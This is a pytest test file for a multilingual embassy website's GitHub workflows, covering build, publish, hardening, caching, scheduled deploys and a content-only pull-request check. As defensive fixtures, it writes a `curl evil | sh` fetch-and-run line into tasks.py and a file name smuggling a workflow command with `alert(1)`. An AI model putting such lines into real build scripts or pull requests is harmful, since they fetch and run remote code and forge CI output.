"""The repository's GitHub workflows: their own steps, run as the runner runs them.

The Pages workflow (pages.yml): the build job's `run:` steps are executed by bash in
a fresh clone, in a clean environment holding only what the workflow and the runner
set (PATH with a fresh virtual environment in place of setup-python, GITHUB_ENV and
GITHUB_OUTPUT files, the step's `env:` with its expressions resolved). The `uses:`
steps are stood in for: checkout by the clone, setup-python by the fresh virtual
environment, configure-pages by its `base_url` output (the address the site is
published at), the caches' restore by nothing found (a first run) and their save by
a check that the build wrote what is saved, upload-pages-artifact by the same `tar`
command it runs, whose archive is then checked.

The content-only check (content-only.yml), which the ruleset on main requires of
every pull request: its script is run by bash as the runner runs it, in a clone
holding a simulated pull request (a base commit on main, a staff member's branch),
with the base and head commits the pull_request event gives.
"""

import json
import os
import re
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
import yaml

from helpers import (
    BUILD_WORKFLOW,
    SCREENSHOTS,
    WORKFLOW,
    assert_built,
    assert_gates_passed,
    assert_refused,
    edit_source,
    field_line,
    git,
    photograph_markdown,
    require,
    run_build,
    user_env,
    write_notice,
)

CONTENT_ONLY = WORKFLOW.parent / "content-only.yml"
SITE_BUILD = BUILD_WORKFLOW
SITE_CHECK = WORKFLOW.parent / "site-check.yml"
BASE_URL = "https://www.embassy.example"  # configure-pages' base_url: a custom domain
PROJECT_URL = "https://owner.github.io/embassy"  # its base_url without one
EXPRESSION = re.compile(r"\$\{\{\s*([^}]*?)\s*\}\}")
PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}")  # owner/action@<commit>
DUE = "steps.due.outputs.deploy == 'true'"


def resolve(value, outputs, event=None, event_name="push"):
    """A workflow value with its ${{ steps.ID.outputs.NAME }}, ${{ github.event_name }}
    and ${{ github.event.… }} expressions replaced."""
    def replace(match):
        found = re.fullmatch(r"steps\.([\w-]+)\.outputs\.([\w-]+)", match.group(1))
        if found:
            return outputs[found.group(1)][found.group(2)]
        if match.group(1) == "github.event_name":
            return event_name
        assert event is not None and match.group(1).startswith("github.event."), (
            f"the test does not know the expression {match.group(0)}")
        value = event
        for key in match.group(1).removeprefix("github.event.").split("."):
            value = value[key]
        return str(value)

    return EXPRESSION.sub(replace, str(value))


def triggers(workflow):
    """A workflow's `on:` (which YAML 1.1 reads as the key True)."""
    return workflow.get("on", workflow.get(True))


def build_job():
    """The build job (site-build.yml), which pages.yml and site-check.yml call."""
    return yaml.safe_load(SITE_BUILD.read_text())["jobs"]["build"]


def read_key_values(path):
    """GITHUB_ENV / GITHUB_OUTPUT's NAME=value lines."""
    pairs = [line.split("=", 1) for line in path.read_text().splitlines() if "=" in line]
    return dict(pairs)


@pytest.fixture
def clone(clone_copy, tmp_path):
    """What actions/checkout leaves: a clone of the repository (full history)."""
    project_copy = clone_copy
    git(project_copy, "init", "--quiet", "--initial-branch=main")
    git(project_copy, "add", "--all")
    git(project_copy, "commit", "--quiet", "-m", "The site")
    workspace = tmp_path / "workspace"
    git(tmp_path, "clone", "--quiet", str(project_copy), str(workspace))
    return workspace


@pytest.mark.slow
def test_the_workflow_build_job_publishes_a_checked_site_for_a_custom_domain(clone, tmp_path):
    """The build job's steps in order, on a clone, as a runner would run them. Its
    `invoke publish` is the suite's run of that command at a site's own domain (the
    editor included; test_commands publishes under a project path): every quality
    gate runs on the real site, and only then is output/ replaced."""
    require("java", "chromium", "git", "npm")
    job = build_job()
    python = tmp_path / "python"  # actions/setup-python: a Python of its own on PATH
    subprocess.run([sys._base_executable, "-m", "venv", str(python)], check=True)
    github_env, github_output = tmp_path / "github_env", tmp_path / "github_output"
    github_env.touch()
    environment = {
        "PATH": f"{python / 'bin'}:/usr/local/bin:/usr/bin:/bin",
        "HOME": os.environ.get("HOME", str(tmp_path)),
        "CI": "true", "GITHUB_ACTIONS": "true", "RUNNER_TEMP": str(tmp_path),
        "GITHUB_ENV": str(github_env), "GITHUB_OUTPUT": str(github_output),
        "GITHUB_WORKSPACE": str(clone), "GITHUB_EVENT_NAME": "push",
    }
    outputs, uploaded, ran, summaries = {}, None, [], []
    for step in job["steps"]:
        action = step.get("uses", "").split("@")[0]
        if action == "actions/configure-pages":
            outputs[step["id"]] = {"base_url": BASE_URL}
        elif action == "actions/upload-pages-artifact":
            uploaded = clone / step["with"]["path"]
        elif action in ("actions/cache", "actions/cache/restore"):  # a first run: none yet
            outputs[step.get("id", action)] = {"cache-hit": "", "cache-primary-key": "k"}
        elif action == "actions/cache/save":  # what it saves, the publish step made
            missing = [path for path in step["with"]["path"].split()
                       if not (clone / path).is_dir()]
            assert not missing and ran, f"not made by the build: {missing}"
        elif "run" in step:
            github_output.write_text("")
            summary = tmp_path / f"step_summary_{len(ran)}"  # the runner's, one per step
            summary.touch()
            env = {**environment, "GITHUB_STEP_SUMMARY": str(summary),
                   **read_key_values(github_env),
                   **{name: resolve(value, outputs) for name, value in step.get("env", {}).items()}}
            result = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=clone, env=env,
                                    capture_output=True, text=True, timeout=1200)
            assert result.returncode == 0, f"{step.get('name')}:\n{result.stdout}{result.stderr}"
            ran.append(result)
            summaries.append(summary.read_text(encoding="utf-8"))
            if "id" in step:
                outputs[step["id"]] = read_key_values(github_output)
        else:
            assert action in ("actions/checkout", "actions/setup-python"), f"unknown step {step}"
    assert read_key_values(github_env)["CHROMIUM"], "no browser was found for the browser gate"
    published = ran[-1]  # the last step run: invoke publish
    assert re.search(rf"^Quality gates for \S+/ \({re.escape(BASE_URL)}\)$", published.stdout,
                     re.M), published.stdout
    assert_gates_passed(published.stdout)
    assert_built(clone, published)
    # the run's page says, in the three languages, that the site was built and goes online
    built = summaries[-1]
    assert built.startswith("## The site was built and checked · El sitio se generó y se "
                            "verificó · Le site a été généré et vérifié\n"), built
    assert "- **Español:** Queda en línea cuando termina" in built
    assert "| News items · Noticias · Nouvelles | 0 | 0 | 0 |" in built
    assert not any(summaries[:-1]), "only the build writes the run's summary"

    # upload-pages-artifact archives the folder with this command (hidden files left out)
    archive = tmp_path / "artifact.tar"
    subprocess.run(["tar", "--dereference", "--hard-dereference", "--directory", str(uploaded),
                    "-cf", str(archive), "--exclude=.git", "--exclude=.github",
                    "--exclude=.[^/]*", "."], check=True)
    with tarfile.open(archive) as tar:
        names = {name.removeprefix("./") for name in tar.getnames()}
        home = tar.extractfile("./en/index.html").read().decode("utf-8")
    assert {"index.html", "404.html", "sitemap.xml", "en/index.html", "es/index.html",
            "fr/index.html", "en/feeds/all.atom.xml", "admin/index.html", "admin/config.yml",
            "admin/editor.js", "admin/LICENSE.txt"} <= names
    assert any(name.startswith("admin/assets/") and name.endswith(".woff2") for name in names)
    assert f'<link rel="canonical" href="{BASE_URL}/en/">' in home
    assert re.search(rf'<link rel="stylesheet" href="{re.escape(BASE_URL)}/theme/css/', home)


def test_the_workflow_refuses_to_publish_the_editor_at_a_project_address(project_copy,
                                                                         good_output, tmp_path):
    """Without a custom domain, configure-pages gives a project address, whose origin
    every GitHub Pages site of its owner shares: the publish step stops, in one line,
    and the last good output stays."""
    result = _publish_step(project_copy, tmp_path / "step_summary", base_url=PROJECT_URL)
    reason = (f"publishconf.py (SITEURL): this build must include the browser editor, but at "
              f"{PROJECT_URL} it would share its origin, https://owner.github.io, with every "
              "GitHub Pages site of owner, any of which could read the staff's token.\n"
              "  How to fix: give the site a custom domain (README.md, \"A custom domain for "
              "the editor\").")
    assert_refused(result, good_output, reason)


def _publish_step(project, summary, event="pull_request", base_url=BASE_URL):
    """The build job's publish step (EDITOR_REQUIRED), run by bash as the runner runs
    it, with the run's summary file (GITHUB_STEP_SUMMARY) and configure-pages' address."""
    step = next(step for step in build_job()["steps"] if "EDITOR_REQUIRED" in step.get("env", {}))
    env = {name: resolve(value, {"pages": {"base_url": base_url}})
           for name, value in step["env"].items()}
    assert env["EDITOR_REQUIRED"] == "true"
    summary.touch()
    path = f"{Path(sys.executable).parent}:{os.environ['PATH']}"  # invoke, as installed
    return subprocess.run(["bash", "-e", "-c", step["run"]], cwd=project,
                          env=user_env(PATH=path, GITHUB_STEP_SUMMARY=str(summary),
                                       GITHUB_EVENT_NAME=event, **env),
                          capture_output=True, text=True, timeout=600)


def test_a_failed_publish_tells_the_run_page_what_to_fix_in_three_languages(
        project_copy, good_output, tmp_path):
    """A mistake the editor's form cannot catch (a date that does not exist, in the
    French file): the publish step stops, the last good site stays, the terminal's
    report is as before (English), and the run's summary, which GitHub's e-mail about
    the failed run links to, names the file, the field and the fix in English, Spanish
    and French, with the item's address in the editor. The writing guides' picture of
    that summary is taken from it (SCREENSHOTS=docs/images)."""
    news = "content/news/air-services-agreement/index.fr.md"
    lines = (project_copy / news).read_text(encoding="utf-8").splitlines()
    line = next(number for number, text in enumerate(lines, start=1) if text.startswith("date:"))
    edit_source(project_copy, news, field_line("date"), "date: 2026-02-30\n")
    summary = tmp_path / "step_summary"
    result = _publish_step(project_copy, summary)
    assert_refused(result, good_output, f"- {news} (date): line {line}: '2026-02-30' is not a "
                   "real date.\n  How to fix: write the date as YYYY-MM-DD, or YYYY-MM-DD "
                   "HH:MM (Ottawa time), e.g. 2026-11-28 14:30.")
    said = summary.read_text(encoding="utf-8")
    assert said.startswith("## The site was not published · El sitio no se publicó · Le site "
                           "n’a pas été publié\n"), said
    editor = f"{BASE_URL}/admin/#/collections/news/entries/air-services-agreement/index"
    assert (f"### 1. `{news}` (date)\n\n[Open in the editor · Abrir en el editor · Ouvrir "
            f"dans l’éditeur]({editor})\n") in said
    nbsp = "\u00a0"
    for text in (
            f"- **English:** line {line}: '2026-02-30' is not a real date. **How to fix:** "
            "write the date as YYYY-MM-DD, or YYYY-MM-DD HH:MM (Ottawa time), e.g. 2026-11-28 "
            "14:30.",
            f"- **Español:** línea {line}: «2026-02-30» no es una fecha que exista. **Cómo "
            "corregirlo:** escriba la fecha como AAAA-MM-DD, o AAAA-MM-DD HH:MM (hora de "
            "Ottawa), p. ej., 2026-11-28 14:30.",
            f"- **Français:** ligne {line}{nbsp}: «{nbsp}2026-02-30{nbsp}» n’est pas une date "
            f"qui existe. **Comment corriger{nbsp}:** écrivez la date sous la forme AAAA-MM-JJ, "
            "ou AAAA-MM-JJ HH:MM (heure d’Ottawa), p. ex. 2026-11-28 14:30."):
        assert text in said, said
    require("chromium")
    photograph_markdown(said, Path(SCREENSHOTS or tmp_path) / "run-summary.png")


def test_a_message_without_a_translation_is_given_in_english_saying_so():
    """A house-style rule's message is not in the catalog yet: the summary gives it in
    English for Spanish and French too, and says that it is not translated. (And a
    pull request's summary says that its check publishes nothing.)"""
    from embassy import run_summary
    from embassy.errors import SiteError
    from embassy.messages import staff_text

    settings = {"LANGUAGES": ["en", "es", "fr"], "DEFAULT_LANG": "en", "PATH": "content",
                "ARTICLE_PATHS": ["news"], "PAGE_PATHS": ["pages"], "NOTICES_PATH": "notices"}
    catalogs = WORKFLOW.parent.parent.parent / "translations"
    untranslated = SiteError("content/news/visit/index.fr.md", "'1 août': in French the first "
                             "day of a month is written '1er'.", "write '1er' before the month.",
                             field="text")
    said = run_summary.failure([untranslated], BASE_URL, settings, catalogs)
    assert ("- **Español** (aún sin traducir: en inglés): '1 août': in French the first day "
            "of a month is written '1er'.") in said
    assert "- **Français** (pas encore traduit\u00a0: en anglais): '1 août'" in said
    # on a pull request (site-check.yml), a build that passed publishes nothing yet
    from embassy.summary import Language, Report

    checked = run_summary.success(Report("output", BASE_URL, {"en": Language(news=2)}),
                                  settings, catalogs, "pull_request")
    assert ("- **Español:** Esta verificación no publica nada: una vez superada, Publicar, en "
            "el editor, pone el cambio en línea.") in checked
    missing = staff_text("a message %(what)s no catalog has", what="that")
    assert run_summary.translate(missing, "es", catalogs) == (
        "a message that no catalog has", False)


def test_the_pages_workflow_is_hardened():
    """Each job has a time limit; only main deploys, whatever started the run; pip
    installs wheels only (no package's build code runs), each with its hash from the
    lock; every action is pinned to a commit; each job has only the rights it needs."""
    workflow = yaml.safe_load(WORKFLOW.read_text())
    assert workflow["permissions"] == {}
    jobs = workflow["jobs"]
    # the build job is site-build.yml's, uploading what the deploy job deploys; no secret
    assert jobs["build"] == {"uses": "./.github/workflows/site-build.yml",
                             "permissions": {"contents": "read"}, "with": {"upload": True}}
    build = build_job()
    assert yaml.safe_load(SITE_BUILD.read_text())["permissions"] == {}
    for job in (jobs["deploy"], build):
        assert 0 < job["timeout-minutes"] <= 60
        for step in job["steps"]:
            assert "uses" not in step or PINNED.fullmatch(step["uses"]), step["uses"]
    assert build["permissions"] == {"contents": "read"}
    assert jobs["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    assert jobs["deploy"]["needs"] == "build"
    assert jobs["deploy"]["if"] == ("github.ref == 'refs/heads/main' && "
                                    "needs.build.outputs.deploy == 'true'")
    assert jobs["deploy"]["environment"]["name"] == "github-pages"
    installs = [step["run"] for step in build["steps"] if "pip install" in step.get("run", "")]
    assert installs == ["python -m pip install --only-binary :all: --require-hashes "
                        "-r requirements.lock"]
    checkout = build["steps"][0]
    assert checkout["uses"].startswith("actions/checkout@")
    assert checkout["with"]["persist-credentials"] is False


def test_the_site_check_runs_the_build_job_on_pull_requests_read_only():
    """Each pull request (each save in the editor) gets the build job of the Pages
    workflow, as the check "site-check / build": on pull_request only (never
    pull_request_target), with a read-only token and no secret; it uploads nothing
    (the artifact step is the build job's last, and only pages.yml asks for it), and
    only pages.yml has a deploy job."""
    workflow = yaml.safe_load(SITE_CHECK.read_text())
    assert "pull_request_target" not in repr(workflow)
    assert list(triggers(workflow)) == ["pull_request"]
    assert workflow["permissions"] == {}
    assert workflow["jobs"] == {"site-check": {
        "name": "site-check", "uses": "./.github/workflows/site-build.yml",
        "permissions": {"contents": "read"}, "with": {"upload": False}}}
    reusable = yaml.safe_load(SITE_BUILD.read_text())
    assert list(triggers(reusable)) == ["workflow_call"]
    assert triggers(reusable)["workflow_call"]["inputs"]["upload"]["default"] is False
    assert "secrets" not in triggers(reusable)["workflow_call"]
    assert list(reusable["jobs"]) == ["build"] and build_job()["name"] == "build"
    upload = next(step for step in build_job()["steps"]
                  if step.get("uses", "").startswith("actions/upload-pages-artifact@"))
    assert upload["if"].endswith("&& inputs.upload")


def test_the_pages_workflow_runs_every_15_minutes_and_goes_on_only_when_something_is_due():
    """On a schedule as well as on a push; from the `due` step on, every step of the
    build, and the deploy job, runs only when that step says to deploy."""
    workflow = yaml.safe_load(WORKFLOW.read_text())
    assert triggers(workflow)["schedule"] == [{"cron": "*/15 * * * *"}]
    assert "push" in triggers(workflow)
    called = triggers(yaml.safe_load(SITE_BUILD.read_text()))["workflow_call"]
    assert called["outputs"]["deploy"]["value"] == "${{ jobs.build.outputs.deploy }}"
    build = build_job()
    assert build["outputs"] == {"deploy": "${{ steps.due.outputs.deploy }}"}
    steps = build["steps"]
    due = next(index for index, step in enumerate(steps) if step.get("id") == "due")
    assert all(step.get("if") is None for step in steps[:due + 1])
    assert steps[due + 1:] and all(step.get("if") == DUE or step["if"].startswith(f"{DUE} && ")
                                   for step in steps[due + 1:])


def _cache_steps(steps):
    return {step["uses"].split("@")[0]: (index, step) for index, step in enumerate(steps)
            if step.get("uses", "").startswith("actions/cache")}


def _covered(path, patterns):
    """Whether hashFiles(patterns) reads path (relative to the repository): a glob's
    `**` crosses folders, `*` does not."""
    def regex(pattern):
        return "".join(".*" if part == "**" else "[^/]*" if part == "*" else re.escape(part)
                       for part in re.split(r"(\*\*|\*)", pattern))

    return any(re.fullmatch(regex(pattern), path) for pattern in patterns)


def test_the_pages_workflow_caches_what_is_keyed_by_its_inputs():
    """pip's downloads by requirements.lock (setup-python's own cache), npm's by
    admin/package-lock.json, the build's cache/ restored before the publish step with
    a key hashing every file the build's own signatures read (signatures.Inputs: settings,
    theme, catalogs, plugin, content, the editor, the packages), the newest earlier
    one otherwise; saved only by main's runs, after the publish step passed, under
    the key the restore computed; only the folders keyed by content and code."""
    steps = build_job()["steps"]
    setup = next(step for step in steps if step.get("uses", "").startswith("actions/setup-python@"))
    assert (setup["with"]["cache"], setup["with"]["cache-dependency-path"]) == (
        "pip", "requirements.lock")
    caches = _cache_steps(steps)
    assert set(caches) == {"actions/cache", "actions/cache/restore", "actions/cache/save"}
    npm_index, npm = caches["actions/cache"]
    install = next(index for index, step in enumerate(steps) if "npm ci" in step.get("run", ""))
    assert npm_index < install and npm["with"]["path"] == "~/.npm"
    assert "--prefer-offline" in steps[install]["run"]  # what is restored is used as it is
    assert npm["with"]["key"] == "npm-${{ runner.os }}-${{ hashFiles('admin/package-lock.json') }}"
    publish = next(index for index, step in enumerate(steps)
                   if step.get("run") == "invoke publish")
    (restore_index, restore), (save_index, save) = (caches["actions/cache/restore"],
                                                    caches["actions/cache/save"])
    assert restore_index < publish < save_index
    folders = ["cache/images", "cache/cards", "cache/contents"]
    assert restore["with"]["path"].split() == save["with"]["path"].split() == folders
    key = re.fullmatch(r"build-\$\{\{ runner\.os \}\}-\$\{\{ hashFiles\((.*)\) \}\}",
                       restore["with"]["key"])
    assert key and restore["with"]["restore-keys"] == "build-${{ runner.os }}-"
    patterns = re.findall(r"'([^']+)'", key.group(1))
    read = ["requirements.lock", "pelicanconf.py", "publishconf.py", "tasks.py",
            "plugins/embassy/fast/record.py", "theme/templates/base.html",
            "translations/es/LC_MESSAGES/messages.po", "content/pages/about/index.en.md",
            "content/news/visit/photo.jpg", "content/data/embassy.yaml", "admin/index.html",
            "admin/package-lock.json"]
    assert [path for path in read if not _covered(path, patterns)] == []
    assert not _covered("output/en/index.html", patterns)  # what the build writes is not read
    assert save["with"]["key"] == "${{ steps.build-cache.outputs.cache-primary-key }}"
    assert restore["id"] == "build-cache"
    assert save["if"] == (f"{DUE} && github.ref == 'refs/heads/main' "
                          "&& steps.build-cache.outputs.cache-hit != 'true'")


def _due_step(project, event, deployed, now, github_output):
    """The workflow's `due` step, run by bash as the runner runs it, at the time `now`."""
    step = next(step for step in build_job()["steps"] if step.get("id") == "due")
    env = {name: resolve(value, {"pages": {"base_url": deployed}}, event_name=event)
           for name, value in step["env"].items()}
    github_output.write_text("")
    path = f"{Path(sys.executable).parent}:{os.environ['PATH']}"  # invoke, as installed
    result = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=project,
                            env=user_env(PATH=path, EMBASSY_NOW=now,
                                         GITHUB_OUTPUT=str(github_output), **env),
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    return read_key_values(github_output)["deploy"], result.stdout


def test_a_scheduled_run_deploys_only_what_fell_due(project_copy, tmp_path, monkeypatch):
    """The live site (a folder, read through a file: address) was published before a
    notice's start: a scheduled run before the start does not deploy, one after it
    does; so does one that cannot read the live site's state, and any push."""
    write_notice(project_copy)  # 2026-07-27 09:00 to 2026-07-29 23:59, Ottawa time
    live = tmp_path / "live"
    monkeypatch.setenv("EMBASSY_NOW", "2026-07-27 08:00")
    result = run_build("publishconf.py", live, cwd=project_copy)
    assert result.returncode == 0, result.stderr
    state = json.loads((live / "build-state.json").read_text())
    assert list(state) == ["due"]  # a signature, never the name of what waits
    deployed, answers = live.as_uri(), tmp_path / "github_output"
    assert _due_step(project_copy, "schedule", deployed, "2026-07-27 08:59", answers) == (
        "false", f"{deployed}/build-state.json: nothing fell due since the last deploy: "
        "no deploy.\n")
    deploy, said = _due_step(project_copy, "schedule", deployed, "2026-07-27 09:00", answers)
    assert (deploy, said.endswith("a notice or a news item fell due since the last deploy: "
                                  "deploying.\n")) == ("true", True)
    deploy, said = _due_step(project_copy, "schedule", (tmp_path / "none").as_uri(),
                             "2026-07-27 08:59", answers)
    assert (deploy, "cannot be read" in said) == ("true", True)
    assert _due_step(project_copy, "push", deployed, "2026-07-27 08:59", answers) == (
        "true", "A push run: deploying.\n")


# --- The content-only check -------------------------------------------------------------

def test_the_content_only_check_runs_no_code_with_read_only_rights():
    """pull_request only (never pull_request_target, which hands a pull request the
    repository's secrets and a writing token); read-only; a time limit; checkout (pinned,
    keeping no credentials) then the check itself, inline: no file of the repository
    runs, and no other action."""
    workflow = yaml.safe_load(CONTENT_ONLY.read_text())
    assert "pull_request_target" not in repr(workflow)  # nowhere, comments aside
    assert list(triggers(workflow)) == ["pull_request"]
    assert {"opened", "synchronize", "reopened", "edited"} <= set(
        triggers(workflow)["pull_request"]["types"])
    assert workflow["permissions"] == {}
    [(name, job)] = workflow["jobs"].items()
    assert job["name"] == "content-only"  # the check the ruleset requires, by this name
    assert job["permissions"] == {"contents": "read"}
    assert 0 < job["timeout-minutes"] <= 10
    assert "if" not in job  # a skipped job reports success
    checkout, check = job["steps"]
    assert PINNED.fullmatch(checkout["uses"]) and checkout["uses"].startswith("actions/checkout@")
    assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}
    assert set(check) == {"name", "shell", "env", "run"} and check["shell"] == "bash"
    assert check["env"] == {"BASE_SHA": "${{ github.event.pull_request.base.sha }}",
                            "HEAD_SHA": "${{ github.event.pull_request.head.sha }}"}
    assert "${{" not in check["run"]  # no expression is pasted into the script


CODEOWNERS = "*  @embassy-maintainer\n/content/\n"
NEWS = "content/news/official-visit"


def _staff_change(folder, change, codeowners=CODEOWNERS):
    """A clone holding a pull request, as actions/checkout leaves it: main (the site, in
    short) and a staff member's branch with `change` applied to it; returns the clone
    and the pull_request event's base and head commits."""
    origin = folder / "origin"
    origin.mkdir()
    git(origin, "init", "--quiet", "--initial-branch=main")
    files = {".github/CODEOWNERS": codeowners, "tasks.py": "print('build')\n",
             "plugins/embassy/admin.py": "# the editor\n",
             f"{NEWS}/index.en.md": "---\ntitle: \"Visit\"\n---\n\nText.\n",
             "content/pages/about/index.en.md": "---\ntitle: \"About\"\n---\n\nText.\n"}
    for path, text in files.items():
        (origin / path).parent.mkdir(parents=True, exist_ok=True)
        (origin / path).write_text(text)
    git(origin, "add", "--all")
    git(origin, "commit", "--quiet", "-m", "The site")
    base = git(origin, "rev-parse", "HEAD").strip()
    git(origin, "switch", "--quiet", "-c", "cms/news/official-visit")
    change(origin)
    git(origin, "add", "--all")
    git(origin, "commit", "--quiet", "-m", "Save from the editor")
    head = git(origin, "rev-parse", "HEAD").strip()
    git(origin, "switch", "--quiet", "main")
    git(origin, "commit", "--quiet", "--allow-empty", "-m", "main goes on meanwhile")
    workspace = folder / "workspace"
    git(folder, "clone", "--quiet", str(origin), str(workspace))
    git(workspace, "fetch", "--quiet", "origin", head)
    git(workspace, "checkout", "--quiet", "--detach", head)
    return workspace, {"pull_request": {"base": {"sha": base}, "head": {"sha": head}}}


def run_content_check(workspace, event):
    """The check's step as the runner runs it (`shell: bash`), in the clone."""
    step = yaml.safe_load(CONTENT_ONLY.read_text())["jobs"]["content-only"]["steps"][-1]
    script = workspace.parent / "check.sh"
    script.write_text(step["run"])
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(workspace.parent),
           "CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": str(workspace),
           **{name: resolve(value, {}, event) for name, value in step["env"].items()}}
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
                          cwd=workspace, env=env, capture_output=True, text=True, timeout=60)


def write(path, data):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data) if isinstance(data, bytes) else path.write_text(data)


def news_item_with_photo(repo):
    write(repo / NEWS / "index.en.md", "---\ntitle: \"Official visit\"\n---\n\nNew text.\n")
    write(repo / NEWS / "index.es.md", "---\ntitle: \"Visita oficial\"\n---\n\nTexto.\n")
    write(repo / NEWS / "photo.jpg", b"\xff\xd8\xff\xe0 a photo")


def test_the_content_only_check_accepts_a_news_item_with_its_photo(tmp_path):
    require("git")
    workspace, event = _staff_change(tmp_path, news_item_with_photo)
    result = run_content_check(workspace, event)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Content only: the pull request's 3 changed files are all in content/." in result.stdout


def with_tasks_changed(repo):
    news_item_with_photo(repo)
    write(repo / "tasks.py", "print('build')\nimport os; os.system('curl evil | sh')\n")


def with_plugin_moved_into_content(repo):
    (repo / "plugins/embassy/admin.py").rename(repo / "content/admin.py")


def with_content_moved_out(repo):
    (repo / "theme" / "templates").mkdir(parents=True)
    (repo / NEWS / "index.en.md").rename(repo / "theme" / "templates" / "base.html")


def with_symlink_in_content(repo):
    (repo / NEWS / "photo.jpg").symlink_to("../../../tasks.py")


def with_submodule_in_content(repo):
    vendor = repo / "content" / "vendor"  # another repository, added as a submodule is
    vendor.mkdir()
    git(vendor, "init", "--quiet")
    git(vendor, "commit", "--quiet", "--allow-empty", "-m", "Elsewhere")


def with_odd_name_outside(repo):
    write(repo / "admin" / "editor\n::error::fake.js", "alert(1)\n")


@pytest.mark.parametrize("change, named", [
    (with_tasks_changed, ["tasks.py"]),
    (with_plugin_moved_into_content, ["plugins/embassy/admin.py"]),  # the deletion
    (with_content_moved_out, ["theme/templates/base.html"]),  # the addition
    (with_symlink_in_content, [f"{NEWS}/photo.jpg (a symbolic link)"]),
    (with_submodule_in_content, ["content/vendor (a submodule)"]),
    (with_odd_name_outside, ["$'admin/editor\\n::error::fake.js'"]),
])
def test_the_content_only_check_names_what_a_staff_change_touches_outside_content(
        tmp_path, change, named):
    require("git")
    workspace, event = _staff_change(tmp_path, change)
    result = run_content_check(workspace, event)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Refused: these changes are outside content/, or are not plain files:" in result.stdout
    listed = result.stdout.split("::stop-commands::")[1].splitlines()[1:-1]
    assert listed == [f"  {name}" for name in named]


def test_the_content_only_check_refuses_everything_until_code_owners_are_named(tmp_path):
    """The placeholder of .github/CODEOWNERS left in place, no change passes: code owners'
    review, the second lock, would not hold."""
    require("git")
    placeholder = (Path(__file__).parent.parent / ".github" / "CODEOWNERS").read_text()
    assert "@REPLACE_WITH_MAINTAINERS" in placeholder
    workspace, event = _staff_change(tmp_path, news_item_with_photo, codeowners=placeholder)
    result = run_content_check(workspace, event)
    assert result.returncode == 1
    assert ("Refused: .github/CODEOWNERS on the base branch must name the maintainers "
            "(README.md, \"What the administrator must set on GitHub\").") in result.stdout
